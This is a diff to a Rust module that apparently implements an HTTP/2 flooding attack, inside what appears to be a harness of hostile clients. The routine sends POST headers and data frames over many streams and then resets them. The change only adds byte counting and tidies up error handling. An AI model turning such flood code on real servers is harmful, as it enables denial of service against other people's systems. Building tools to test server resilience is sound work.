@@ -8,7 +8,7 @@ use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::time::sleep;
 
 use super::{Attack, flood};
-use crate::hostile::{Connection, Hostile, h2};
+use crate::hostile::{Hostile, h2};
 
 /// Window of a connection and of a stream, without other agreement (RFC 9113, section 6.9.2).
 const WINDOW: i64 = 65_535;
@@ -61,7 +61,7 @@ async fn content(client: Hostile, path: &str, frame: &[u8]) -> io::Result<()> {
     connection.send(&h2::opening(&[])).await?;
     let window = AtomicI64::new(WINDOW);
     let length = i64::try_from(frame.len() - h2::frame(h2::DATA, 0, 1, &[]).len()).unwrap_or(1);
-    let (mut reader, mut writer) = connection.split();
+    let (mut reader, mut writer, tally) = connection.split();
     let sending = async {
         for stream in h2::streams() {
             let mut bytes = h2::headers(stream, 0, &post(path));
@@ -78,6 +78,7 @@ async fn content(client: Hostile, path: &str, frame: &[u8]) -> io::Result<()> {
                 if writer.write_all(&bytes).await.is_err() {
                     return;
                 }
+                tally.add_sent(bytes.len());
                 bytes.clear();
             }
             let end = h2::frame(h2::RST_STREAM, 0, stream, &h2::CANCEL);
@@ -90,7 +91,7 @@ async fn content(client: Hostile, path: &str, frame: &[u8]) -> io::Result<()> {
         () = sending => {}
         _ = grow(&mut reader, &window) => {}
     }
-    Err(Connection::closed(&connection))
+    Err(connection.closed())
 }
 
 /// Adds what the server grants to the window of the connection, until the end.
